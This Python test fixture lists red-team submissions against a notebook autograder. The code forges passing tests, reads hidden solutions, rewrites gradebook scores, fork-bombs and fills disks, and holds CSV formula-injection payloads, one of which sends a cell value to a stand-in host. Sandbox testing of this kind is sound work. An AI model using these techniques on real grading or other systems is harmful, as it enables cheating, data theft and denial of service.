"""The red-team submissions: each is the fixture assignment's release version plus attack code.

An attack is ``Attack(name, base, cells, score, flagged)``: ``base`` is ``"blank"`` (the
released notebook: nothing implemented) or ``"full"`` (every exercise solved); ``cells``
maps a solution cell's grade id to code that replaces (blank) or is appended to (full) it;
``score`` is the expected total (the fixture is worth 3 + 3 + 4 = 10); ``flagged`` says the
kernel was fooled, so the independent check must not confirm the tests it passed (and the
instructor gets the evidence). ``{root}``, ``{port}``
and ``{token}`` are filled in when the notebooks are built (an attacker may guess paths).
``link`` names what of the submission is a symbolic link (``redteam.py`` makes it): the
notebook, the assignment folder or the student's folder, pointing at the solution.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import nbformat

from autograder import notebooks as nbk
from autograder.simulate import solved

FULL = 10.0


@dataclass(frozen=True)
class Attack:
    name: str
    # "judge" (1), "read" (2), "write" (3), "resources" (4), "combined", and
    # "stop" (5: stopping the class), "link" (6: links), "spreadsheet" (7: CSV formulas)
    threat: str
    base: str
    cells: dict[str, str]
    score: float
    flagged: bool = False
    notes: list[str] = field(default_factory=list)
    link: str = ""  # "notebook", "folder" or "student": a symbolic link to the solution


# Wrong answers for all three exercises: a test that passes with these was forged.
WRONG = """
def squares(x):
    return np.zeros(len(x))

def gd_step(w, grad, lr):
    return np.asarray(w, dtype=float)

def ema_step(v, g, beta):
    return 0.0
"""

ATTACKS = [
    # --- 1. changing how later cells run or are judged --------------------------------
    Attack("t-input-transformer", "judge", "blank", {"squares": WRONG + """
def _skip_tests(lines):
    return ["pass\\n"] if any("assert" in ln or "raise" in ln for ln in lines) else lines
get_ipython().input_transformers_cleanup.append(_skip_tests)
"""}, 0.0, flagged=True),
    Attack("t-ast-transformer", "judge", "blank", {"squares": WRONG + """
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoChecks())
"""}, 0.0, flagged=True),
    Attack("t-events-patch", "judge", "blank", {"squares": WRONG + """
def _rig(*args):
    np.allclose = lambda *a, **k: True
    np.isclose = lambda a, b, **k: not (isinstance(b, float) and b == 3.5)
    np.array_equal = lambda *a, **k: True
get_ipython().events.register("pre_run_cell", _rig)
"""}, 0.0, flagged=True),
    Attack("t-custom-exc", "judge", "blank", {"squares": WRONG + """
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((BaseException,), _swallow)
"""}, 0.0, flagged=False),
    Attack("t-showtraceback", "judge", "blank", {"squares": WRONG + """
import sys
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
"""}, 0.0, flagged=False),
    Attack("t-numpy-allclose", "judge", "blank", {"squares": WRONG + """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: not (isinstance(b, float) and b == 3.5)
np.array_equal = lambda *a, **k: True
"""}, 0.0, flagged=True),
    Attack("t-numpy-asarray-testing", "judge", "blank", {"squares": WRONG + """
import numpy.testing
np.testing.assert_allclose = lambda *a, **k: None
_real_asarray = np.asarray
np.asarray = lambda a, *args, **kw: _real_asarray(a, *args, **kw)
np.core = None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: b != 3.5
"""}, 0.0, flagged=True),
    Attack("t-builtins", "judge", "blank", {"squares": WRONG + """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
"""}, 0.0),
    Attack("t-course-lib-checks", "judge", "blank", {"squares": WRONG + """
from course_lib import checks
checks.check_array = checks.check_scalar = lambda *a, **k: None
checks.CheckError = type("CheckError", (Exception,), {})
"""}, 0.0),
    Attack("t-array-function", "judge", "blank", {"squares": """
class _Liar:
    shape = (2,)
    def __array_function__(self, func, types, args, kwargs):
        return not (len(args) > 1 and args[1] == 3.5)
    def __eq__(self, other):
        return True
    __array_priority__ = 1000

def squares(x):
    return _Liar()

def gd_step(w, grad, lr):
    return _Liar()

def ema_step(v, g, beta):
    return _Liar()
"""}, 0.0, flagged=True),
    Attack("t-rigged-float", "judge", "blank", {"squares": WRONG + """
class _Yes(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
    def __array__(self, dtype=None, copy=None):
        return np.array(2.5)

def ema_step(v, g, beta):
    return _Yes(0.0)
"""}, 0.0, flagged=False),
    Attack("t-settrace-jump", "judge", "blank", {"squares": WRONG + """
import sys, linecache
def _jump(frame, event, arg):
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith(("raise", "assert")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _jump
def _tracer(frame, event, arg):
    return _jump
sys.settrace(_tracer)
"""}, 0.0, flagged=False),
    Attack("t-exit-skips-tests", "judge", "blank", {"squares": WRONG + """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""}, 0.0),
    Attack("t-ask-exit", "judge", "blank", {"gd_step": WRONG + """
get_ipython().ask_exit()
"""}, 0.0),
    Attack("t-recorder-off", "judge", "full", {"ema_step": """
import sys
_rec = sys.modules.get("_course_recorder")
if _rec is not None:
    _rec.recorder.write = lambda record: None
"""}, 6.0, flagged=True),  # the two tests before the switch-off were recorded
    # --- 2. reading what it should not ----------------------------------------------------
    Attack("r-print-test-source", "read", "blank", {"squares": """
import inspect
def squares(x):
    raise ValueError("\\n".join(get_ipython().user_ns["In"][-1:]))

def gd_step(w, grad, lr):
    raise ValueError(inspect.stack()[1].frame.f_globals["_ih"][-1])

def ema_step(v, g, beta):
    print(get_ipython().user_ns["_ih"][-1])
    raise ValueError(inspect.getsource(inspect.stack()[1].frame))
"""}, 0.0),
    Attack("r-read-files", "read", "blank", {"squares": """
import glob, os
_found = []
for _pattern in ["{root}/source/*/*.ipynb", "{root}/gradebook.db", "{root}/submitted/*/*/*.ipynb",
                 "{root}/release/*/*.ipynb", os.path.expanduser("~") + "/*", "/root/*",
                 "/home/*/*", "/srv/*", "/opt/*"]:
    _found += glob.glob(_pattern)
print("FOUND:", _found)
def squares(x):
    out = []
    for p in _found:
        try:
            out.append(open(p, errors="replace").read()[:20000])
        except OSError:
            pass
    raise ValueError("\\n".join(out) or "nothing readable")
def gd_step(w, grad, lr):
    return squares(w)
def ema_step(v, g, beta):
    return squares(v)
"""}, 0.0),
    Attack("r-walk-filesystem", "read", "blank", {"squares": """
import os
_hits = []
for _top in ["/", os.getcwd()]:
    for _dir, _subdirs, _files in os.walk(_top):
        if _dir.startswith(("/proc", "/sys", "/usr", "/dev")):
            _subdirs[:] = []
            continue
        _hits += [os.path.join(_dir, f) for f in _files
                  if f.endswith((".ipynb", ".db")) or f == "nbgrader_config.py"]
print("HITS:", _hits)
def squares(x):
    raise ValueError(str(_hits))
"""}, 0.0),
    # --- 3. writing what it should not ----------------------------------------------------
    Attack("w-course-files", "write", "blank", {"squares": """
import os, sqlite3
_attempts = {}
for _path in ["{root}/source/ps1/ps1.ipynb", "{root}/nbgrader_config.py", "{root}/gradebook.db",
              "{root}/submitted/honest-1/ps1/ps1.ipynb", "{root}/autograded/honest-1/ps1/ps1.ipynb",
              "{root}/release/ps1/ps1.ipynb"]:
    try:
        with open(_path, "w") as f:
            f.write("pwned")
        _attempts[_path] = "WROTE"
    except OSError as err:
        _attempts[_path] = type(err).__name__
try:
    _db = sqlite3.connect("{root}/gradebook.db")
    _db.execute("update grade set auto_score = 100")
    _db.commit()
    _attempts["sql"] = "WROTE"
except Exception as err:
    _attempts["sql"] = type(err).__name__
print("ATTEMPTS:", _attempts)
"""}, 0.0),
    Attack("w-host-tmp-and-home", "write", "full", {"gd_step": """
import os
for _path in ["/tmp/pwned-{token}", os.path.expanduser("~/pwned-{token}"), "/root/pwned-{token}",
              "/var/tmp/pwned-{token}", "/dev/shm/pwned-{token}"]:
    try:
        with open(_path, "w") as f:
            f.write("x")
    except OSError:
        pass
"""}, FULL),
    # --- 4. resources -------------------------------------------------------------------------
    Attack("x-fork-bomb", "resources", "full", {"ema_step": """
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(600)
"""}, FULL),
    Attack("x-background-process", "resources", "full", {"squares": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # marker-{token}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "nohup sleep 900 marker-{token} >/dev/null 2>&1 &"])
"""}, FULL),
    Attack("x-thread-tampers-later", "resources", "blank", {"squares": WRONG + """
import threading, time
def _later():
    while True:
        np.allclose = lambda *a, **k: True
        time.sleep(0.01)
threading.Thread(target=_later).start()
"""}, 0.0, flagged=True),
    Attack("x-memory-bomb", "resources", "full", {"squares": """
def _eat():
    hog = []
    while True:
        hog.append(bytearray(50 * 1024 * 1024))
try:
    _eat()
except MemoryError:
    pass
"""}, FULL),
    Attack("x-disk-one-file", "resources", "full", {"squares": """
_chunk = b"x" * (1 << 20)
try:
    with open("big.bin", "wb") as f:
        for _ in range(4096):
            f.write(_chunk)
except OSError:
    pass
try:
    with open("/tmp/big.bin", "wb") as f:
        for _ in range(4096):
            f.write(_chunk)
except OSError:
    pass
"""}, FULL),
    Attack("x-disk-many-files", "resources", "full", {"ema_step": """
import time
_chunk = b"x" * (1 << 20)
for _i in range(64):
    try:
        with open(f"fill{_i}.bin", "wb") as f:
            for _ in range(60):
                f.write(_chunk)
    except OSError:
        pass
time.sleep(2)
"""}, 6.0),
    Attack("x-output-flood", "resources", "full", {"squares": """
import sys
_line = "flood " * 1000 + "\\n"
for _ in range(4000):
    sys.stdout.write(_line)
"""}, FULL),
    Attack("x-network", "resources", "full", {"gd_step": """
import socket
for _addr in [("127.0.0.1", {port}), ("localhost", {port}), ("8.8.8.8", 53), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(_addr, timeout=1).sendall(b"leak")
    except OSError:
        pass
"""}, FULL),
    # --- combinations -------------------------------------------------------------------------
    Attack("c-leak-and-tamper", "combined", "blank", {"squares": WRONG + """
def _hide(lines):
    source = "".join(lines)
    if "assert" in source:
        print(source)
        return ["raise ValueError(" + repr(source) + ")\\n"] if "HIDDEN" in source else ["pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_hide)
"""}, 0.0, flagged=False),
    Attack("c-background-network", "combined", "full", {"squares": """
import os, socket, time
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"late")
        except OSError:
            time.sleep(0.5)
    os._exit(0)
"""}, FULL),
    Attack("c-write-then-exit", "combined", "blank", {"squares": """
import os
try:
    with open("{root}/source/ps1/ps1.ipynb", "w") as f:
        f.write("{}")
except OSError:
    pass
os._exit(0)
"""}, 0.0),
    Attack("c-patch-and-hide-errors", "combined", "blank", {"squares": WRONG + """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: b != 3.5
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
"""}, 0.0, flagged=True),
]

# --- 5-7: stopping the class, following links, reaching a spreadsheet -----------------
# A kernel sends outputs whose text is a list (or other JSON): stream, error, rich output.
LIST_OUTPUTS = """
_k = get_ipython().kernel
_p = _k.get_parent("shell")
_k.session.send(_k.iopub_socket, "stream", {"name": "stderr", "text": ["warn\\n", "ing\\n"]},
                parent=_p)
_k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": ["a\\n", 7, None]},
                parent=_p)
_k.session.send(_k.iopub_socket, "error", {"ename": ["Value", "Error"], "evalue": ["x", "y"],
                                           "traceback": [["a"], 3]}, parent=_p)
_m = _k.session.send(_k.iopub_socket, "display_data", {"data": {"text/plain": ["1", "2"]},
                                                       "metadata": {}}, parent=_p)
"""

ATTACKS += [
    Attack("s-list-outputs", "stop", "full", {"squares": LIST_OUTPUTS,
                                              "ema_step": LIST_OUTPUTS}, FULL),
    Attack("s-hidden-marker-in-message", "stop", "blank", {"squares": """
def squares(x):
    raise AssertionError("This matches a known mistake: ### BEGIN HIDDEN TESTS")
""", "gd_step": """
def gd_step(w, grad, lr):
    raise AssertionError("x\\nThis matches a known mistake: ### END HIDDEN TESTS\\n")
""", "ema_step": """
def ema_step(v, g, beta):
    raise AssertionError("### BEGIN HIDDEN TESTS")
"""}, 0.0),
    Attack("x-many-empty-files", "resources", "full", {"ema_step": """
import os, time
os.makedirs("many", exist_ok=True)
for _i in range(200000):
    try:
        open(f"many/{_i}", "w").close()
    except OSError:
        break
time.sleep(2)
"""}, 6.0),
    Attack("l-link-notebook", "link", "blank", {}, 0.0, link="notebook"),
    Attack("l-link-folder", "link", "blank", {}, 0.0, link="folder"),
    Attack("l-link-student", "link", "blank", {}, 0.0, link="student"),
    Attack("f-formula-in-message", "spreadsheet", "blank", {"squares": """
def squares(x):
    raise AssertionError('This matches a known mistake: =HYPERLINK("http://x.invalid/?"&A1,"ok")')
""", "gd_step": """
def gd_step(w, grad, lr):
    raise AssertionError("This matches a known mistake: +cmd|' /C calc'!A0")
""", "ema_step": """
def ema_step(v, g, beta):
    raise AssertionError("This matches a known mistake: @SUM(1+1)*cmd|' /C calc'!A0")
"""}, 0.0),
    Attack("f-formula-tab", "spreadsheet", "blank", {"squares": """
def squares(x):
    raise AssertionError("This matches a known mistake: -2+3+cmd|' /C calc'!A0")
""", "gd_step": """
def gd_step(w, grad, lr):
    raise AssertionError("This matches a known mistake: \\t=1+1")
""", "ema_step": """
def ema_step(v, g, beta):
    raise AssertionError("This matches a known mistake: \\r=1+1")
"""}, 0.0),
]

HONEST = {"honest-1": "full", "honest-2": "full", "blank-1": "blank"}


def build(attack: Attack, source_nb, release_nb, **values):
    """The attack's submission notebook."""
    nb = solved(source_nb, release_nb) if attack.base == "full" else \
        nbformat.from_dict(json.loads(nbformat.writes(release_nb)))
    for gid, code in attack.cells.items():
        cell = nbk.cell_by_id(nb, gid)
        for key, value in values.items():
            code = code.replace("{" + key + "}", str(value))
        cell.source = (cell.source + "\n" + code) if attack.base == "full" else code
    return nb
